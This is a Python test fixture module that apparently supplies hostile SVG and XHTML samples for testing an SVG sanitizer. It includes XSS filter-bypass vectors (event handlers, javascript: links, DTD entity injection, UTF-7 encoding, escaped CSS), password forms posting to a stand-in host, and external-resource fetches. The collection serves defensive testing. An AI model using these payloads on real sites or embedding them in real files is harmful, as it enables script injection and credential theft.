"""Drawings that act, ask another host or hide either, and drawings as programs save them, which a site publishes.

Each hostile one sets ``data-ran`` on its root once its script runs, holds a form, or asks ``elsewhere.example``: opened
by itself, or once it is clicked on, in one browser or another.
"""

from __future__ import annotations

from pathlib import Path

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
AWAY = "https://elsewhere.example"
RUN = "void document.documentElement.setAttribute('data-ran', localStorage.length)"
BOX = 'width="90" height="90"'


def draw(inside: str, attributes: str = "") -> str:
    """Return a drawing with something in it."""
    return f'<svg {SVG} viewBox="0 0 100 100" width="100" height="100"{attributes}>{inside}</svg>'


def write_html(inside: str) -> str:
    """Return a document whose root is of XHTML, which a browser shows as a page whatever its file's ending."""
    return f"<html {XHTML}><head><title>a</title></head><body>{inside}</body></html>"


def style(css: str) -> str:
    """Return a drawing with a style sheet, and text and shapes that it applies to."""
    return draw(f'<style>{css}</style><rect {BOX}/><text y="50">a</text>')


SCRIPTED = {
    "script": draw(f"<script>{RUN}</script>"),
    "script-prefixed": f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>{RUN}</s:script></s:svg>',
    "script-xhtml": draw(f"<script {XHTML}>{RUN}</script>"),
    "script-in-defs": draw(f"<defs><title><script>{RUN}</script></title></defs>"),
    "script-in-metadata": draw(f"<metadata><x xmlns=''><script {SVG}>{RUN}</script></x></metadata>"),
    "script-address": draw(f'<script xlink:href="data:text/javascript,{RUN}"/>'),
    "script-entity": f'<!DOCTYPE svg [<!ENTITY s "&#60;script>{RUN}&#60;/script>">]>{draw("&s;")}',
    "script-attlist": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]>{draw("")}',
    "script-utf-16": draw(f"<script>{RUN}</script>").encode("utf-16"),
    "script-utf-16-declared": f'<?xml version="1.0" encoding="utf-16"?>{draw(f"<script>{RUN}</script>")}'.encode(
        "utf-16"
    ),
    "script-utf-7": f'<?xml version="1.0" encoding="utf-7"?>{draw("+ADw-script+AD4-")}',
    "onload": draw("", f' onload="{RUN}"'),
    "onclick": draw(f'<rect {BOX} onclick="{RUN}"/>'),
    "onfocus": draw(f'<g tabindex="0" onfocusin="{RUN}"><rect {BOX}/></g>'),
    "onbegin": draw(f'<animate attributeName="x" dur="1s" onbegin="{RUN}"/>'),
    "onerror": draw(f'<image href="data:image/png;base64,AA==" onerror="{RUN}" {BOX}/>'),
    "link": draw(f'<a href="javascript:{RUN}"><rect {BOX}/></a>'),
    "link-xlink": draw(f'<a xlink:href="java&#9;script:{RUN}"><rect {BOX}/></a>'),
    "link-set": draw(f'<a><set attributeName="href" to="javascript:{RUN}"/><rect {BOX}/></a>'),
    "link-animated": draw(f'<a><animate attributeName="href" values="javascript:{RUN}"/><rect {BOX}/></a>'),
    "link-xhtml": draw(f'<foreignObject {BOX}><a {XHTML} href="javascript:{RUN}">a</a></foreignObject>'),
    "frame": draw(
        f'<foreignObject {BOX}><iframe {XHTML} srcdoc="&lt;script>parent.{RUN[5:]}&lt;/script>"/></foreignObject>'
    ),
    "html": write_html(f"<script>{RUN}</script>"),
    "html-handler": write_html(f'<img src="data:," onerror="{RUN}" alt=""/>'),
    "html-link": write_html(f'<a href="javascript:{RUN}">Open the lesson</a>'),
    "stylesheet-xslt": f'<?xml-stylesheet type="text/xsl" href="data:text/xml,%3Cscript/%3E"?>{draw("")}',
}
"""Those that run a script, by name."""
FORMS = {
    "form": write_html(f'<form action="javascript:{RUN}"><button>Go on</button></form>'),
    "form-button": write_html(f'<form><button formaction="javascript:{RUN}">Go on</button></form>'),
    "form-password": write_html(
        f'<form action="{AWAY}/"><input type="password" name="p"/><button>Go on</button></form>'
    ),
    "form-in-drawing": draw(
        f'<foreignObject {BOX}><form {XHTML} action="{AWAY}/"><input type="password"/></form></foreignObject>'
    ),
}
"""Those that hold a form, some of which runs a script or asks elsewhere."""
ASKING = {
    "image": draw(f'<image href="{AWAY}/a.png" {BOX}/>'),
    "image-xlink": draw(f'<image xlink:href="{AWAY}/a.png" {BOX}/>'),
    "image-svg": draw(
        f'<image href="data:image/svg+xml,%3Csvg/%3E" {BOX}/><image href="//elsewhere.example/a" {BOX}/>'
    ),
    "filter-image": draw(f'<filter id="f"><feImage href="{AWAY}/a.png"/></filter><rect {BOX} filter="url(#f)"/>'),
    "use": draw(f'<use href="{AWAY}/a.svg#a"/>'),
    "fill": draw(f'<rect {BOX} fill="url({AWAY}/a.svg#a)"/>'),
    "mask-escaped": draw(f'<rect {BOX} mask="u\\72l({AWAY}/a.svg#a)"/>'),
    "cursor": draw(f'<rect {BOX} style="cursor:url({AWAY}/a.png), auto"/>'),
    "style-attribute": draw(f'<rect {BOX} style="mask-image:url(&quot;{AWAY}/a.png&quot;)"/>'),
    "import": style(f'@import "{AWAY}/a.css";'),
    "import-escaped": style(f'@\\69mport "{AWAY}/a.css";'),
    "import-after-comment": style(f'rect{{fill:red/* rgb( */}}@import "{AWAY}/a.css";/* ) */'),
    "import-in-cdata": style(f'<![CDATA[@import "{AWAY}/a.css";]]>'),
    "address-escaped": style(f"svg{{background:\\75 rl({AWAY}/a.png)}}"),
    "image-set": style(f'svg{{background-image:image-set("{AWAY}/a.png" 1x)}}'),
    "font": style(f'@font-face{{font-family:a;src:url("{AWAY}/a.woff")}}text{{font-family:a}}'),
    "property": style(f"svg{{--a:url({AWAY}/a.png);background:var(--a)}}"),
    "style-xhtml": draw(f'<style {XHTML}>@import "{AWAY}/a.css";</style>'),
    "link-xhtml-style": draw(f'<link {XHTML} rel="stylesheet" href="{AWAY}/a.css"/>'),
    "font-escaped": style(f'@font-face{{font-family:a;src:\\75rl("{AWAY}/a.woff")}}text{{font-family:a}}'),
    "image-html": write_html(f'<img srcset="{AWAY}/a.png" alt=""/>'),
    "table-html": write_html(f'<table background="{AWAY}/a.png"><tr/></table>'),
    "image-xhtml": draw(f'<img {XHTML} src="{AWAY}/a.png" alt=""/>'),
    "table-xhtml": draw(f'<foreignObject {BOX}><table {XHTML} background="{AWAY}/a.png"><tr/></table></foreignObject>'),
    "video": draw(f'<foreignObject {BOX}><video {XHTML} src="{AWAY}/a.mp4" autoplay=""/></foreignObject>'),
    "refresh": write_html(f'<meta http-equiv="refresh" content="0;url={AWAY}/"/>'),
    "refresh-in-drawing": draw(f'<meta {XHTML} http-equiv="refresh" content="0;url={AWAY}/"/>'),
    "stylesheet": f'<?xml-stylesheet type="text/css" href="{AWAY}/a.css"?>{draw("")}',
    "doctype-elsewhere": f'<!DOCTYPE svg SYSTEM "{AWAY}/a.dtd">{draw("")}',
}
"""Those that ask another host."""
ODD = {
    "no-namespace": "<svg><rect/></svg>",
    "other-root": f"<g {SVG}/>",
    "capitals": draw("<SCRIPT>a</SCRIPT>"),
    "unknown-namespace": draw('<a xmlns="https://elsewhere.example/ns"/>'),
    "handler-of-a-program": draw('<a xmlns="http://www.inkscape.org/namespaces/inkscape" onclick="a()"/>'),
    "base": draw('<use href="#a"/>', f' xml:base="{AWAY}/"'),
    "events": draw('<x:listener xmlns:x="http://www.w3.org/2001/xml-events" event="load" handler="#a"/>'),
    "mathml": draw(f'<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:{RUN}"/>'),
    "font-of-svg": draw('<font id="a"><font-face font-family="a"/></font>'),
    "broken-off": draw("")[:-6],
    "latin": draw("<title>caf\xe9</title>").encode("latin-1"),
    "half-a-style": style('rect{fill:red}} @import "a'),
    "property-unknown": style("rect{behavior:none}"),
}
"""Those that no browser of today acts on, or that browsers may read otherwise than we do."""
HOSTILE: dict[str, str | bytes] = {**SCRIPTED, **FORMS, **ASKING, **ODD}

SAVED = {path.stem: path.read_bytes() for path in (Path(__file__).parent / "saved_drawings").glob("*.svg")}
"""Drawings as programs save them, by the program's name."""


def encode(drawing: str | bytes) -> bytes:
    """Return the bytes of a drawing."""
    return drawing if isinstance(drawing, bytes) else drawing.encode()
